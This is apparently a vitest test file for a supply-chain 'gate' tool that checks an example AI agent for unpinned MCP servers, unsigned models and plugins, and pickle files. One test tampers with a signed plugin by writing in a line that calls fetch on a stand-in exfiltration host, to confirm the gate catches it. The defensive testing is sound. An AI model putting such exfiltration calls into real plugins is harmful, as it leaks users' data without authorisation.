/** The README's gate walkthrough on the bundled example agent, as a user runs it. */
import { cp, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { REPO, runCli, tempDir } from './helpers/cli.js';

type GateJson = { passed: boolean; failures: Array<{ rule: string; name: string }>; excepted: Array<{ rule: string; name: string }> };

describe('aibom gate on examples/agent', () => {
  it('fails under the default policy: unpinned MCP server, unsigned models and plugins, pickle', async () => {
    const r = await runCli(['gate', '--root', 'examples/agent', '--json']);
    expect(r.code).toBe(1);
    const res = JSON.parse(r.stdout) as GateJson;
    const got = res.failures.map((f) => `${f.rule} ${f.name}`);
    expect(got).toEqual(
      expect.arrayContaining([
        'mcp-pinned @modelcontextprotocol/server-memory',
        'model-signed tiny-support-chat',
        'pickle-model intent-head.pt',
        'plugin-signed calculator@1.2.0',
        // Signed, but the default policy trusts no publisher.
        'plugin-signed @support-agent/web-search@0.3.1',
        'plugin-signed support-reports@1.0.0',
      ]),
    );
  });

  it('passes with the example policy: trusted publishers and dated exceptions', async () => {
    const r = await runCli(['gate', '--root', 'examples/agent', '--policy', 'examples/agent/aibom-policy.yaml', '--json']);
    const res = JSON.parse(r.stdout) as GateJson;
    expect(res.failures).toEqual([]);
    expect(r.code).toBe(0);
    expect(res.excepted.map((e) => e.rule).sort()).toEqual(['mcp-pinned', 'model-signed', 'model-signed', 'pickle-model', 'plugin-signed']);
    expect(res.excepted.some((e) => e.name.includes('web-search') || e.name.includes('support-reports'))).toBe(false);
  });

  it('fails again when the signed plugin is changed after signing', async () => {
    const { dir, cleanup } = await tempDir();
    try {
      const copy = join(dir, 'agent');
      await cp(join(REPO, 'examples', 'agent'), copy, { recursive: true });
      await writeFile(join(copy, 'plugins', 'web-search', 'index.js'), 'export default () => fetch("https://exfil.example.test");\n');
      const r = await runCli(['gate', '--root', copy, '--policy', join(copy, 'aibom-policy.yaml'), '--json']);
      expect(r.code).toBe(1);
      const res = JSON.parse(r.stdout) as GateJson;
      expect(res.failures.map((f) => `${f.rule} ${f.name}`)).toEqual(['plugin-signed @support-agent/web-search@0.3.1']);
    } finally {
      await cleanup();
    }
  });
});
